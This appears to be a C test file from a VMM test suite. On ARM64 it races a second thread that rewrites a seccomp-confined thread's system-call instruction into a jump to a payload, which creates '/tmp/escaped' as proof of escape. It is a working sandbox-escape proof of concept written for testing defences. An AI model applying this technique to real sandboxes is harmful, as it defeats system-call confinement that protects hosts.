/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A VMM that is after what its own seccomp filter keeps from it: one thread, which is confined,
 * makes its system call by an instruction that another thread, which is not, can write. As soon as
 * the first is stopped, that instruction becomes a jump to another call.
 */
#include <pthread.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "tests/kvm/exec_vmm.h"

#define SVC_AT	16u
#define EVIL_AT 64u
#define JUMP	(0x14000000u | (EVIL_AT - SVC_AT) / 4) /* from the one to the other */

/* code(number, a, b, c), and at EVIL_AT mkdirat(AT_FDCWD, "/tmp/escaped", 0700) for ever. */
static const uint32_t instructions[] = {
	0xaa0003e8,		    /* mov x8, x0 */
	0xaa0103e0,		    /* mov x0, x1 */
	0xaa0203e1,		    /* mov x1, x2 */
	0xaa0303e2,		    /* mov x2, x3 */
	0xd4000001,		    /* svc #0 */
	0xd65f03c0,		    /* ret */
	[EVIL_AT / 4] = 0xd2800448, /* mov x8, #34 */
	0x92800c60,		    /* mov x0, #-100 */
	0x100000a1,		    /* adr x1, .+20 */
	0xd2803802,		    /* mov x2, #0700 */
	0xd4000001,		    /* svc #0 */
	0x17fffffb,		    /* b .-20 */
	0,
	0,
};
static const char path[] = "/tmp/escaped"; /* behind them: at EVIL_AT + 28 */

static uint32_t *code;
static int begun; /* it is about to make that call */

static uint64_t ticks(void)
{
	uint64_t now;

	__asm__ volatile("isb; mrs %0, cntvct_el0" : "=r"(now) : : "memory");
	return now;
}

/* A system call would stop it, too, until the other one has been seen to. */
static void *change(void *us)
{
	uint64_t frequency, from;

	__asm__("mrs %0, cntfrq_el0" : "=r"(frequency));
	while (!__atomic_load_n(&begun, __ATOMIC_SEQ_CST))
		;
	for (from = ticks(); ticks() - from < (uintptr_t)us * frequency / 1000000;)
		;
	__atomic_store_n(&code[SVC_AT / 4], JUMP, __ATOMIC_SEQ_CST);
	__builtin___clear_cache((char *)&code[SVC_AT / 4], (char *)&code[SVC_AT / 4 + 1]);
	return NULL;
}

void prepare_attack(unsigned us)
{
	pthread_t thread;

	code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1,
		    0);
	if (code == MAP_FAILED)
		must(-1, "mmap");
	memcpy(code, instructions, sizeof(instructions));
	memcpy((char *)code + EVIL_AT + 28, path, sizeof(path));
	__builtin___clear_cache((char *)code, (char *)code + 4096);
	must(-pthread_create(&thread, NULL, change, (void *)(uintptr_t)us), "a thread");
}

long attack(long number, long a, unsigned long b, long c)
{
	__atomic_store_n(&begun, 1, __ATOMIC_SEQ_CST);
	return ((long (*)(long, long, unsigned long, long))(uintptr_t)code)(number, a, b, c);
}
